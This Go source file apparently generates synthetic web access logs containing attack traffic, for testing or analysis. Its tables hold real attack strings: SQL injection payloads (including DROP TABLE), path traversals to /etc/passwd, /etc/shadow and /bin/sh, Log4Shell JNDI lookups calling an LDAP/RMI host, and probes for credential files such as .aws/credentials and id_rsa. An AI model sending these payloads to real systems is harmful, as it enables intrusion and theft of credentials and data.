package gen

import (
	"slices"
	"strings"
)

// attack is what somebody tries who is up to no good.
type attack uint8

const (
	peace attack = iota
	probing
	injection
	traversal
	lookup4j // Log4Shell, in headers
	overlong
	flood
	attacks
)

// attackMix is what attackers do, as often as each stands here.
var attackMix = [...]attack{
	probing, probing, probing, probing, probing, probing, injection, injection, injection, injection,
	traversal, traversal, lookup4j, lookup4j, overlong, flood, flood, flood,
}

// attackersEach is how many attackers there are of each sort. Each has an
// address of its own in 203.0.113.0/24, and one tool.
const attackersEach = 42

// attackStatuses are what attacks are answered with, as often as each stands
// here, as indices into statusCodes.
var attackStatuses = [attacks][16]uint8{
	probing:   sixteen("404 404 404 404 404 404 404 404 404 404 404 403 403 403 301 405"),
	injection: sixteen("200 200 200 200 200 200 403 403 403 403 403 500 500 500 400 400"),
	traversal: sixteen("400 400 400 400 400 400 400 400 404 404 404 404 404 403 403 403"),
	lookup4j:  sixteen("200 200 200 200 200 200 404 404 404 404 403 403 403 403 301 400"),
	overlong:  sixteen("414 414 414 414 414 414 414 414 414 414 414 414 400 400 400 400"),
	flood:     sixteen("429 429 429 429 429 429 429 429 429 429 503 503 503 503 200 200"),
}

func sixteen(statuses string) (list [16]uint8) {
	for i, status := range strings.Fields(statuses) {
		list[i] = uint8(slices.Index(statusCodes[:], status))
	}
	return list
}

// patience is how many requests of a flood are answered as if they were none.
const patience = 100

// campaign is a run of requests of one attacker.
type campaign struct {
	attack   attack
	attacker int    // of its sort
	other    uint32 // what is flooded
	step     int    // of the next request
	left     int    // requests
}

// newCampaign draws who attacks next, and for how long. A few attackers are
// at it most of the time.
func (d *drawer) newCampaign() campaign {
	s := d.source
	c := campaign{
		attack:   attackMix[s.below(len(attackMix))],
		attacker: d.attackers.draw(s),
		other:    uint32(d.site.otherRank.draw(s)),
		left:     1 + s.below(8<<s.below(8)),
	}
	if c.attack == flood {
		c.left *= 4
	}
	return c
}

// attack makes r the next request of an attack.
func (d *drawer) attack(r *request) {
	s := d.source
	c := &d.campaigns[s.below(len(d.campaigns))]
	if c.left == 0 {
		*c = d.newCampaign()
	}
	*r = request{second: r.second, attack: c.attack, attacker: uint16(c.attacker), step: uint32(c.step), kind: missing}
	c.step++
	c.left--
	switch c.attack {
	case injection:
		r.other = uint32(d.site.otherRank.draw(s))
		r.kind = d.site.otherKinds[r.other]
	case flood:
		r.other = c.other
		r.kind = d.site.otherKinds[r.other]
	case lookup4j:
		r.kind = page // number 0, the start page
	}
	r.status = attackStatuses[c.attack][s.below(16)]
	if c.attack == flood && r.step < patience {
		r.status = uint8(slices.Index(statusCodes[:], "200"))
	}
	r.target = s.draw()
	r.amount = s.draw()
	r.pace = [2]draw{s.draw(), s.draw()}
}

// attack makes r, a request of an attack, the line.
func (b *scribe) attack(r *request) {
	l, t := &b.line, r.found.target
	number := int(r.attacker)*int(attacks-1) + int(r.attack)
	tools := attackTools[r.attack]
	l.second = r.second
	l.vhost = vhost(r.kind)
	l.client = appendInt(append(l.client[:0], "203.0.113."...), number)
	l.user = "-"
	l.status = statusCodes[r.status]
	l.bytes = r.size(t.size)
	l.duration = r.duration(t.pace)
	l.referrer = append(l.referrer[:0], '-')
	l.forwarded = append(l.forwarded[:0], '-')
	l.agent = append(l.agent[:0], tools[int(r.attacker)%len(tools)]...)
	l.request = append(append(l.request[:0], methods[r.method]...), ' ')
	l.request = append(r.appendAttack(l.request, t), " HTTP/1.1"...)
	if r.attack == lookup4j {
		l.agent = append(l.agent[:0], lookups[r.target.below(len(lookups))]...)
		l.agent = append(appendInt(l.agent, number), ":1389/a}"...)
	}
}

// appendAttack appends what r asks for, or would if it were not a part of an
// attack: t.
func (r *request) appendAttack(dst []byte, t *target) []byte {
	switch r.attack {
	case probing:
		if round := int(r.step) / len(probes); round > 0 {
			dst = append(append(dst, '/'), vocabulary[round%len(vocabulary)]...)
		}
		return append(dst, probes[int(r.step)%len(probes)]...)
	case traversal:
		return append(dst, traversals[r.target.below(len(traversals))]...)
	case overlong:
		fill := fillers[int(r.attacker)%len(fillers)]
		return append(append(dst, "/search?q="...), fill[:len(fill)/8+r.target.below(len(fill)*7/8)]...)
	case injection:
		dst = append(dst, t.uri...)
		if strings.IndexByte(t.uri, '?') < 0 {
			dst = append(dst, "?id="...)
		} else {
			dst = append(dst, "&id="...)
		}
		return append(dst, injections[r.target.below(len(injections))]...)
	}
	return append(dst, t.uri...)
}

// attackTools are the agents of attackers.
var attackTools = [attacks][]string{
	probing: {
		"Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "-", "Go-http-client/1.1", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	},
	injection: {"sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36"},
	traversal: {"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)", "curl/7.88.1", "python-urllib3/2.0.7"},
	lookup4j:  {"-"},
	overlong:  {"-", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"},
	flood:     {"Go-http-client/1.1", "okhttp/4.12.0", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.0.0 Safari/537.36"},
}

// probes are what scanners ask for, those of the example first.
var probes = [...]string{
	"/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/admin.php",
	"/xmlrpc.php", "/.aws/credentials", "/backup.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/shell.php", "/config.php",
	"/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/wp-json/wp/v2/users", "/actuator/env", "/server-status",
	"/solr/admin/info/system?wt=json", "/boaform/admin/formLogin?username=admin&psd=admin", "/HNAP1/", "/owa/auth/logon.aspx",
	"/_ignition/execute-solution", "/.DS_Store", "/.svn/entries", "/backup.sql.gz", "/dump.sql", "/id_rsa", "/.ssh/id_rsa", "/phpinfo.php",
	"/cgi-bin/luci/;stok=/locale?form=country", "/manager/html", "/console/login/LoginForm.jsp", "/druid/index.html", "/telescope/requests",
	"/autodiscover/autodiscover.json?@test.example/owa/", "/.vscode/sftp.json", "/docker-compose.yml", "/api/.env", "/old/.env",
	"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/geoserver/web/",
}

// exampleProbes is how many of probes the scanner of the example knows.
const exampleProbes = 12

// traversals are paths that lead out of the site.
var traversals = [...]string{
	"/../../../../../../etc/passwd",
	"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
	"/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
	"/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
	"/static/..%252f..%252f..%252fetc/shadow",
	"/icons/..%c0%af..%c0%af..%c0%afwindows/win.ini",
	"/download?file=....//....//....//etc/passwd",
	"/download?file=..%5c..%5c..%5cboot.ini",
	"/index.php?page=php://filter/convert.base64-encode/resource=config",
	"/index.php?page=/proc/self/environ%00",
	"/pictures/..;/..;/manager/html",
}

// injections are what is put behind the equals sign of a query.
var injections = [...]string{
	"1%27%20OR%20%271%27=%271",
	"1+UNION+SELECT+NULL,NULL,version()--",
	"-1%27+UNION+ALL+SELECT+CONCAT(0x7e,user(),0x7e),2,3--+-",
	"1;WAITFOR+DELAY+%270:0:5%27--",
	"1+AND+SLEEP(5)",
	"admin%27--",
	"1%20AND%20(SELECT%201%20FROM(SELECT%20COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.TABLES%20GROUP%20BY%20x)a)",
	"%27;DROP+TABLE+users--",
	"1%20ORDER%20BY%2010--",
	"1)%20OR%20(1=1",
}

// lookups are what makes Log4j load code, up to the last byte of an address.
var lookups = [...]string{
	"${jndi:ldap://203.0.113.",
	"${${lower:j}ndi:${lower:l}dap://203.0.113.",
	"${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.",
	"${jndi:dns://203.0.113.",
}

// fillers make requests as long as servers take them, 8 KiB.
var fillers = [...]string{strings.Repeat("A", 8000), strings.Repeat("%00", 2600), strings.Repeat("../", 2600)}
